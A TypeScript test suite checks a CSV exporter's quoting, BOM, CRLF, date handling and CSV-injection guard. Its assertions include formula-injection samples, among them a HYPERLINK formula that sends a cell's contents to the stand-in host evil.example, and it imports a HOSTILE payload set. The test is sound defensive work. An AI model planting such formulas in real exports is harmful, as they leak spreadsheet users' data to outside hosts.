/**
 * The csv export, the exact-data format: every character as given (no cut at Excel's cell limit, no control
 * character removed), UTF-8 BOM, RFC 4180 quoting, CRLF, dates in the zone, and the CSV-injection guard as the
 * one change; read back by csv-parse (an independent RFC 4180 reader) and checked byte by byte, against the
 * rows given and against the values of a real SQLite cache.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { writeExport, type ExportColumn } from '../../src-main/core/export/index';
import { HOSTILE, filesIn, inBatches, tempDir } from './export-helpers';

const COLUMNS: ExportColumn[] = [
  { key: 'id', header: 'Id', kind: 'integer' },
  { key: 'text', header: 'Mensaje', kind: 'text' },
  { key: 'created', header: 'Creación', kind: 'date' },
  { key: 'score', header: 'Puntaje', kind: 'number' },
];

/** The guard's documented change: an apostrophe before a formula-like field and before = + - @ starting a piece. */
const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? "'" : '') + text.replace(/([,;\t\r\n]"*)([=+\-@])/g, "$1'$2");

test('csv: BOM, header, CRLF, quoting, injection guard, dates and numbers', async (t) => {
  const dir = tempDir(t);
  const outPath = join(dir, 'interactions.csv');
  const rows = HOSTILE.map((h, i) => ({ id: i + 1, text: h.input, created: Date.UTC(2025, 2, 9, 6, 59, 59) + i * 1000, score: i / 2 }));
  const long = 'x'.repeat(40_000) + '👍';
  rows.push({ id: 99, text: long, created: Number.NaN, score: Number.NaN });
  const result = await writeExport({
    outPath,
    format: 'csv',
    zone: 'America/New_York',
    sheets: [
      { name: 'Interactions', columns: COLUMNS, rows: inBatches(rows, 5) },
      { name: 'Ignored', columns: COLUMNS, rows: inBatches([]) },
    ],
  });
  assert.deepEqual(result, { rows: rows.length, sheets: ['Interactions'], path: outPath });
  assert.deepEqual(filesIn(dir), ['interactions.csv']);

  const bytes = readFileSync(outPath);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM first');
  const text = bytes.subarray(3).toString('utf8');
  assert.ok(text.startsWith('Id,Mensaje,Creación,Puntaje\r\n'), 'header, then CRLF');
  assert.ok(text.endsWith('\r\n'));
  const inCells = HOSTILE.reduce((n, h) => n + h.input.split('\r\n').length - 1, 0);
  assert.equal(text.split('\r\n').length - 1, rows.length + 1 + inCells, 'CRLF ends every record (others are inside quoted cells)');
  // The formula-like cell, exactly as OWASP advises: quoted, with a leading apostrophe, inner quotes doubled.
  assert.ok(text.includes(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`));
  assert.ok(text.includes(`,"'+1",`) && text.includes(`,"'@SUM(A1:A9)",`) && text.includes(`,"'\t'=1+1",`));
  assert.ok(text.includes(`,"He said ""yes"", then left",`), 'RFC 4180: quotes doubled, commas quoted');
  assert.ok(text.includes(`\r\n1,"Buenos días, ¿en qué le puedo ayudar?",2025-03-09 01:59:59,0\r\n`));
  assert.ok(text.includes(',2025-03-09 03:00:00,'), 'the DST jump is in the wall clock');

  // csv-parse reads it back (strings as written, no type guessing); TextDecoder consumes the BOM, as Excel does.
  const data = parse(new TextDecoder('utf-8').decode(bytes), { relax_column_count: false }) as string[][];
  assert.deepEqual(data[0], ['Id', 'Mensaje', 'Creación', 'Puntaje']);
  assert.ok(text.includes(`,"one\ttwo\nthree\r\nfour\rfive",`), 'line breaks inside a quoted cell kept byte for byte');
  HOSTILE.forEach((h, i) => {
    // Every character kept; only a lone surrogate, which UTF-8 cannot hold, arrives as U+FFFD.
    const kept = Buffer.from(h.input, 'utf8').toString('utf8');
    const expected = guarded(kept);
    assert.equal(data[i + 1]![1], expected, h.label);
    assert.equal(String(data[i + 1]![0]), String(i + 1));
    assert.equal(String(data[i + 1]![3]), String(i / 2));
  });
  const last = data[rows.length]!;
  assert.equal(last[1], long, 'longer than an Excel cell: kept whole');
  assert.deepEqual([last[2], last[3]], ['', ''], 'NaN date and number: empty');
});

test('csv: an empty selection still gets its header', async (t) => {
  const dir = tempDir(t);
  const outPath = join(dir, 'empty.csv');
  const result = await writeExport({ outPath, format: 'csv', zone: 'UTC', sheets: [{ name: 'X', columns: COLUMNS, rows: inBatches([]) }] });
  assert.equal(result.rows, 0);
  assert.equal(readFileSync(outPath, 'utf8'), '\uFEFFId,Mensaje,Creación,Puntaje\r\n');
});
